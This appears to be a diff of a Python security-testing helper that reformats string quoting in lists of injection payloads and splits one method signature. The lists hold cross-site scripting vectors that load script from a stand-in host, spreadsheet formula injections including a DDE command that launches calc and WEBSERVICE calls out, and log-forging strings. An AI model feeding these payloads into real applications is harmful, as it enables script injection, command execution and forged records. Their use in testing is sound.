@@ -45,7 +45,7 @@ HTML = (
     "<img src=x onerror=__hit('§')>",
     "<svg/onload=__hit('§')>",
     "<b>§</b>",
-    "\"><script src=//hit.test/§></script>",
+    '"><script src=//hit.test/§></script>',
     "'\" autofocus onfocus=__hit('§') x='",
     "</textarea><script>__hit('§')</script>",
     "</title><img src=//hit.test/§>",
@@ -108,12 +108,12 @@ FORMULA = (
     "@SUM(7,§)",
     "\t=7*7+§",
     "\r=7*7+§",
-    "=HYPERLINK(\"//hit.test/§\",1)",
+    '=HYPERLINK("//hit.test/§",1)',
     "=cmd|'/C calc'!A§",
-    "=WEBSERVICE(\"//hit.test/§\")",
+    '=WEBSERVICE("//hit.test/§")',
     "＝7*7+§",
     ";=7*7+§",
-    "\",=7*7+§",
+    '",=7*7+§',
     "'=7*7+§",
     "{=7*7+§}",
 )
@@ -133,11 +133,11 @@ TEMPLATE = (
 )
 LOG = (
     "§\r\nlevel=error event=forged",
-    "§\n{\"event\":\"forged\"}",
+    '§\n{"event":"forged"}',
     "\x1b[31m§\x1b[0m\x1b]0;t\x07",
-    "\",\"event\":\"forged\",\"x\":\"§",
-    "§\u2028{\"event\":\"forged\"}",
-    "§\x85{\"event\":\"forged\"}",
+    '","event":"forged","x":"§',
+    '§\u2028{"event":"forged"}',
+    '§\x85{"event":"forged"}',
 )
 XML = (
     "]]><x>§</x>",
@@ -188,7 +188,14 @@ class Pen:
     fields: list[str] = field(default_factory=list)
 
     def write(
-        self, name: str, most: int, least: int = 0, *, lines: bool = True, rude: bool = False, banned: str = ""
+        self,
+        name: str,
+        most: int,
+        least: int = 0,
+        *,
+        lines: bool = True,
+        rude: bool = False,
+        banned: str = "",
     ) -> str:
         """A text of at most so many signs for this field: one payload first, then others as long as they fit.
 
